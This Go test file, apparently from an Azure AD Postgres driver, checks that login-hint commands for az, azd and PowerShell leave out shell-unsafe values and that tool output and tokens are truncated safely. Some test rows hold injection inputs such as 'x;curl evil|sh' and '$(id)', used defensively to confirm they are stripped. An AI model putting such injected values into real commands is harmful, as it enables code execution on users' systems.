package credential

import (
	"strings"
	"testing"

	"github.com/aadpostgres/aadpostgres/driver/internal/entratest"
	"github.com/aadpostgres/aadpostgres/dsn"
)

// The commands that a hint prints can be pasted into a shell: a value that a shell would
// take for more is left out.
func TestCommands(t *testing.T) {
	const scope = "https://server.example/.default"
	rows := []struct {
		name, scope          string
		cfg                  dsn.Config
		mode                 dsn.Mode
		wantLogin, wantTried string
	}{
		{"az", scope, dsn.Config{}, dsn.AzureCLI, "az login --scope https://server.example/.default", "az account get-access-token --output none --resource https://server.example"},
		{"az, tenant and subscription", scope, dsn.Config{TenantID: "contoso.example", Subscription: "dev_1"}, dsn.AzureCLI,
			"az login --scope https://server.example/.default --tenant contoso.example", "az account get-access-token --output none --resource https://server.example --tenant contoso.example --subscription dev_1"},
		{"azd", scope, dsn.Config{TenantID: "t"}, dsn.AzureDeveloperCLI, "azd auth login --scope https://server.example/.default --tenant-id t", "azd auth login --check-status"},
		{"pwsh", scope, dsn.Config{TenantID: "t"}, dsn.AzurePowerShell, "Connect-AzAccount -AuthScope https://server.example -Tenant t in PowerShell", `pwsh -NoProfile -Command "Get-AzAccessToken -ResourceUrl https://server.example | Out-Null"`},
		{"double slash", "https://server.example//.default", dsn.Config{}, dsn.AzureCLI, "az login --scope https://server.example//.default", "az account get-access-token --output none --resource https://server.example/"},
		{"a scope for a shell", "x;curl evil|sh", dsn.Config{}, dsn.AzureCLI, "az login", "az account get-access-token --output none"},
		{"a tenant for a shell", scope, dsn.Config{TenantID: "$(id)"}, dsn.AzureDeveloperCLI, "azd auth login --scope https://server.example/.default", "azd auth login --check-status"},
		{"a tenant for PowerShell", "a`b\nc", dsn.Config{TenantID: "'&'"}, dsn.AzurePowerShell, "Connect-AzAccount in PowerShell", `pwsh -NoProfile -Command "Get-AzAccessToken | Out-Null"`},
	}
	for _, row := range rows {
		t.Run(row.name, func(t *testing.T) {
			tool := toolOf(row.mode)
			if got := tool.login(row.scope, &row.cfg); got != row.wantLogin {
				t.Errorf("login = %q, want %q", got, row.wantLogin)
			}
			if got := tool.try(row.scope, &row.cfg); got != row.wantTried {
				t.Errorf("try = %q, want %q", got, row.wantTried)
			}
		})
	}
}

// What a tool prints is shown in one line that is bounded, whatever it is, and never with a
// token that was broken into pieces.
func TestHostileOutput(t *testing.T) {
	long := strings.Repeat("x ", 1<<20)
	word := strings.Repeat("A", 70) + entratest.Marker
	rows := []struct{ name, output string }{
		{"one long line", "ERROR: " + long},
		{"many lines", strings.Repeat("line\n", 1<<18)},
		{"many errors", strings.Repeat("ERROR: no\n", 1<<16)},
		{"many tracebacks", strings.Repeat("Traceback (most recent call last):\n", 1<<15)},
		{"a traceback without an end", "Traceback (most recent call last):\n  File"},
		{"an error view without an end", "Line |\n"},
		{"an error view alone", "Line |\n 1 | x\n   | ~~~"},
		{"a long instruction", "ERROR: no\naz login --scope " + long},
		{"a long word", "ERROR: " + word},
		{"a long word, last", "Traceback (most recent call last):\n" + word + ": az login"},
		{"a long word in the instruction", "ERROR: no\naz login --claims " + word},
		{"nothing but escape sequences", "\x1b[31m\x1b[0m\r\r"},
	}
	for _, row := range rows {
		t.Run(row.name, func(t *testing.T) {
			got := readOutput(shorten(row.output)).reason()
			if len([]rune(got)) > 480 {
				t.Errorf("reason() has %d characters, want at most 480", len([]rune(got)))
			}
			if strings.Contains(got, entratest.Marker) || strings.Contains(got, "\n") {
				t.Errorf("reason() = %q, want one line without the end of a long word", got)
			}
		})
	}
}

// A long text is shortened between lines, so that no token is cut where it would not be
// recognized.
func TestShorten(t *testing.T) {
	filler := strings.Repeat("filler\n", 20<<10)
	jwt := entratest.JWT(map[string]any{"oid": strings.Repeat("o", 200<<10)})
	rows := []struct{ name, text, want string }{
		{"short", "a\nb", "a\nb"},
		{"long", "first\n" + filler + "last", "last"},
		{"a token at the end", filler + jwt, ""},
		{"a token alone", jwt, ""},
	}
	for _, row := range rows {
		t.Run(row.name, func(t *testing.T) {
			got := shorten(row.text)
			if len(got) > 128<<10 {
				t.Errorf("shorten() has %d bytes, want at most 128 KiB", len(got))
			}
			if !strings.HasSuffix(got, row.want) {
				t.Errorf("shorten() ends in %q, want %q", got[len(got)-10:], row.want)
			}
			if strings.Contains(got, entratest.Marker) {
				t.Error("shorten() keeps the end of a token without its beginning")
			}
		})
	}
}
